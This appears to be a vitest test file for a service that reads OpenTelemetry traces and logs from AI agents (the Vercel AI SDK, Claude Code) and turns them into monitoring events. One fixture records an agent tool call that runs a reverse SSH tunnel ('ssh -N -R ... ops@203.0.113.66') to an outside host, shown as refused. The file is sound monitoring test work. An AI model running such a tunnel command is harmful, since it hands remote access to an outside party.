// Real senders: the OpenTelemetry exporters and the Vercel AI SDK, over HTTP on loopback, read by our own code.
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { gunzipSync } from 'node:zlib'
import { SpanStatusCode } from '@opentelemetry/api'
import { OTLPLogExporter } from '@opentelemetry/exporter-logs-otlp-proto'
import { OTLPTraceExporter as JsonTraceExporter } from '@opentelemetry/exporter-trace-otlp-http'
import { OTLPTraceExporter as ProtobufTraceExporter } from '@opentelemetry/exporter-trace-otlp-proto'
import { LoggerProvider, SimpleLogRecordProcessor } from '@opentelemetry/sdk-logs'
import { BasicTracerProvider, BatchSpanProcessor, type SpanExporter } from '@opentelemetry/sdk-trace-node'
import { generateText, jsonSchema, stepCountIs, tool } from 'ai'
import { MockLanguageModelV3 } from 'ai/test'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import type { EventInput } from '../protocol/event.ts'
import { parseEvent } from '../protocol/parse-event.ts'
import { otlpEncodingOf, readLogs, readTraces } from './otlp-request.ts'
import { encodeExportResponse } from './otlp-response.ts'

let server: Server
let url: string
let received: EventInput[]
let problems: string[]

beforeEach(async () => {
  received = []
  problems = []
  server = createServer((request, response) => {
    const chunks: Buffer[] = []
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    request.on('end', () => {
      const raw = Buffer.concat(chunks)
      const body = request.headers['content-encoding'] === 'gzip' ? gunzipSync(raw) : raw
      const encoding = otlpEncodingOf(request.headers['content-type']) ?? 'json'
      const signal = request.url === '/v1/logs' ? 'logs' : 'traces'
      const result = (signal === 'logs' ? readLogs : readTraces)(body, encoding, { nowMs: Date.now() })
      if (result.ok) {
        received.push(...result.parsed.events)
        problems.push(...result.parsed.rejected.map(({ reason }) => reason))
      } else problems.push(result.reason)
      response.setHeader('content-type', encoding === 'json' ? 'application/json' : 'application/x-protobuf')
      response.end(encodeExportResponse(signal, encoding))
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
})

afterEach(async () => {
  server.closeAllConnections()
  await new Promise((resolve) => server.close(resolve))
  expect(problems).toEqual([])
  for (const event of received) expect(parseEvent(event)).toMatchObject({ ok: true })
})

const exporters: [string, () => SpanExporter][] = [
  ['protobuf', () => new ProtobufTraceExporter({ url: `${url}/v1/traces` })],
  ['JSON', () => new JsonTraceExporter({ url: `${url}/v1/traces` })],
]
const told = () => received.map(({ kind, session, data }) => ({ kind, session, ...data }))

describe.each(exporters)('the OpenTelemetry %s exporter', (_, exporter) => {
  test('tells a failed tool call to the millisecond', async () => {
    const provider = new BasicTracerProvider({ spanProcessors: [new BatchSpanProcessor(exporter())] })
    const startMs = Date.now() - 5_000
    const span = provider.getTracer('agent').startSpan('execute_tool bash', {
      startTime: startMs,
      attributes: {
        'gen_ai.operation.name': 'execute_tool',
        'gen_ai.tool.name': 'bash',
        'gen_ai.tool.call.id': 'call_9',
        'gen_ai.tool.call.arguments': '{"command":"ssh -N -R 9000:localhost:22 ops@203.0.113.66"}',
        'session.id': 'ep-7',
      },
    })
    span.setStatus({ code: SpanStatusCode.ERROR, message: 'refused' })
    span.end(startMs + 1_234)
    await provider.shutdown()
    expect(told()).toMatchObject([
      {
        kind: 'action.started',
        session: 'ep-7',
        call: 'call_9',
        summary: 'ssh -N -R 9000:localhost:22 ops@203.0.113.66',
      },
      { kind: 'action.ended', session: 'ep-7', call: 'call_9', outcome: 'error', output: 'refused', durationMs: 1_234 },
    ])
    expect(received.map((event) => event.atMs)).toEqual([startMs, startMs + 1_234])
    expect(received[0]).toMatchObject({
      data: { traceId: span.spanContext().traceId, spanId: span.spanContext().spanId },
    })
  })

  test('tells a tool call of the Vercel AI SDK with its model calls and messages', async () => {
    const provider = new BasicTracerProvider({ spanProcessors: [new BatchSpanProcessor(exporter())] })
    await runAgent(provider)
    await provider.shutdown()
    const told = received.map((event) => [event.kind, 'text' in event.data ? event.data.text : undefined])
    expect(new Set(received.map((event) => event.session))).toEqual(new Set(['ep-ai']))
    expect(told.map(([kind]) => kind).sort()).toEqual([
      'action.ended',
      'action.started',
      'message.recorded',
      'message.recorded',
      'model.called',
      'model.called',
    ])
    expect(received.find((event) => event.kind === 'action.started')?.data).toMatchObject({
      tool: 'bash',
      call: 'call-1',
      summary: 'id -u',
    })
    expect(received.find((event) => event.kind === 'action.ended')?.data).toMatchObject({ outcome: 'ok', exitCode: 0 })
    expect(told.filter(([kind]) => kind === 'message.recorded').map(([, text]) => text)).toEqual([
      'Who am I?',
      'You are root.',
    ])
    expect(received.find((event) => event.kind === 'model.called')?.data).toMatchObject({
      inputTokens: 11,
      outputTokens: 7,
    })
  })
})

test('the OpenTelemetry log exporter tells a tool result of Claude Code', async () => {
  const provider = new LoggerProvider({
    processors: [new SimpleLogRecordProcessor(new OTLPLogExporter({ url: `${url}/v1/logs` }))],
  })
  provider.getLogger('com.anthropic.claude_code.events').emit({
    body: 'claude_code.tool_result',
    timestamp: Date.now(),
    attributes: {
      'event.name': 'tool_result',
      'session.id': 'cc-1',
      'event.sequence': 3,
      tool_name: 'Bash',
      tool_use_id: 'toolu_9',
      success: 'true',
      duration_ms: '20',
      tool_parameters: '{"bash_command":"ls","full_command":"ls /"}',
    },
  })
  await provider.forceFlush()
  await provider.shutdown()
  expect(told()).toMatchObject([
    { kind: 'action.started', session: 'cc-1', call: 'toolu_9', summary: 'ls /' },
    { kind: 'action.ended', outcome: 'ok', durationMs: 20 },
  ])
})

/** A scripted model that calls one tool and then answers. */
async function runAgent(provider: BasicTracerProvider): Promise<void> {
  const usage = {
    inputTokens: { total: 11, noCache: 11, cacheRead: undefined, cacheWrite: undefined },
    outputTokens: { total: 7, text: 7, reasoning: undefined },
  }
  const model = new MockLanguageModelV3({
    doGenerate: [
      {
        content: [{ type: 'tool-call', toolCallId: 'call-1', toolName: 'bash', input: '{"command":"id -u"}' }],
        finishReason: { unified: 'tool-calls', raw: undefined },
        usage,
        warnings: [],
      },
      {
        content: [{ type: 'text', text: 'You are root.' }],
        finishReason: { unified: 'stop', raw: undefined },
        usage,
        warnings: [],
      },
    ],
  })
  await generateText({
    model,
    prompt: 'Who am I?',
    stopWhen: stepCountIs(3),
    tools: {
      bash: tool({
        description: 'run a command',
        inputSchema: jsonSchema<{ command: string }>({
          type: 'object',
          properties: { command: { type: 'string' } },
          required: ['command'],
        }),
        execute: async () => ({ exit_code: 0, output: '0' }),
      }),
    },
    experimental_telemetry: {
      isEnabled: true,
      functionId: 'episode',
      metadata: { sessionId: 'ep-ai' },
      tracer: provider.getTracer('ai'),
    },
  })
}
